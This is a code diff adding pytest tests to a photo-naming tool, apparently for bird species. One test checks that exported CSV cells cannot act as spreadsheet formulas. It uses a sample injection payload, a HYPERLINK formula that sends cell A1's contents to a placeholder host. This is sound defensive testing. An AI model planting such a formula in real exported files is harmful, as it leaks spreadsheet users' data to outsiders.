@@ -12,6 +12,7 @@ from PIL import Image
 
 from finer1_lite import predict
 from finer1_lite.__main__ import main
+from finer1_lite.data import tables
 from finer1_lite.evals import predictions
 from finer1_lite.runtime.files import DataError
 from finer1_lite.students import card as cards
@@ -83,6 +84,27 @@ def test_a_row_for_every_photograph_at_any_depth(photos, namer, tmp_path, capsys
     assert "6 photographs: 3 named, 3 unknown (confidence under 0.5), 0 could not be read" in said
     assert "red kite 1" in said and "8 held-out photographs (tests)" in said
     assert "1 .txt" in caplog.text and "1 hidden" in caplog.text
+
+
+def test_a_class_called_unknown_is_a_class(photos, namer, tmp_path, capsys):
+    namer.card = card(["unknown", "could not be read", "great tit"], calibration=CALIBRATED)
+    run(photos, tmp_path)
+    said = capsys.readouterr().out
+    assert "6 photographs: 3 named, 3 unknown" in said and "0 could not be read" in said
+    assert "unknown 1, great tit 1, could not be read 1" in said
+    assert "unknown (best guess unknown" in page(tmp_path)
+
+
+def test_no_cell_of_the_table_is_a_formula(photos, namer, tmp_path):
+    evil = '=HYPERLINK("http://x/?"&A1,"y")'
+    namer.card = card([evil, "-b", "@c"], calibration=CALIBRATED)
+    namer.completion = f"\t+{evil}"
+    run(photos, tmp_path)
+    cells = [cell for row in table(tmp_path) for cell in row.values()]
+    assert f"'{evil}" in cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t")]
+    back = tables.read(tmp_path / "predictions" / "predictions.csv", exact=True).rows
+    assert {row["best_guess"] for _, row in back} == {evil, "-b", "@c"}
+    assert {row["completion"] for _, row in back} == {namer.completion}
 
 
 def test_threshold_and_number_of_names_need_no_new_answers(photos, namer, tmp_path):
